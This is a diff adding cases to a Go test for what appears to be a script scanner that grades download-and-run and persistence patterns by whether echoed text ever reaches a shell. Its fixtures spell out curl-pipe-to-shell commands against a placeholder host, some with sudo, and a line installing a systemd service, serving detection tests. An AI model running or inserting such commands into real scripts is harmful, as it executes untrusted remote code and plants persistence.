@@ -51,6 +51,15 @@ func TestSeverityByContext(t *testing.T) {
 		{"install hint in a usage message", "install.sh", "usage() { echo \"Usage: curl https://x.invalid/i.sh | sudo bash\" 1>&2; exit 1; }", 1, "medium download-and-run"},
 		{"echo piped to a shell", "x.sh", "echo \"curl -s https://x.invalid/i | sh\" | sh", 1, "high download-and-run"},
 		{"echo with a command substitution", "x.sh", "echo \"$(curl -s https://x.invalid/i | sh)\"", 1, "high download-and-run"},
+		// A message is what reaches the terminal: a function whose output a
+		// shell reads, a script that moved its own output, a descriptor
+		// other than 1 and 2, or a command beside the echo on its line runs.
+		{"installer's next steps", "install.sh", "finish() {\n  echo \"Start it with: curl -fsSL https://x.invalid/i | sh\"\n}\nfinish", 2, "medium download-and-run"},
+		{"function printed into a shell", "x.sh", "f() {\n  echo \"curl -fsSL https://x.invalid/i | sh\"\n}\nf | sh", 2, "high download-and-run"},
+		{"function printed into a file run later", "x.sh", "f() {\n  echo \"curl -fsSL https://x.invalid/i | sh\"\n}\nf > /tmp/x.sh\nsh /tmp/x.sh", 2, "high download-and-run"},
+		{"script output moved into a shell", "x.sh", "exec > >(sh)\necho \"curl -fsSL https://x.invalid/i | sh\"", 2, "high download-and-run"},
+		{"echo to another descriptor", "x.sh", "exec 3> /tmp/x.sh\necho \"curl -fsSL https://x.invalid/i | sh\" >&3\nsh /tmp/x.sh", 2, "high download-and-run"},
+		{"command beside a message", "x.sh", "echo \"enabling\"; cp x.service /etc/systemd/system/x.service", 1, "high persistence"},
 		// A command spelled in a string that nothing runs is a message.
 		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
 		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
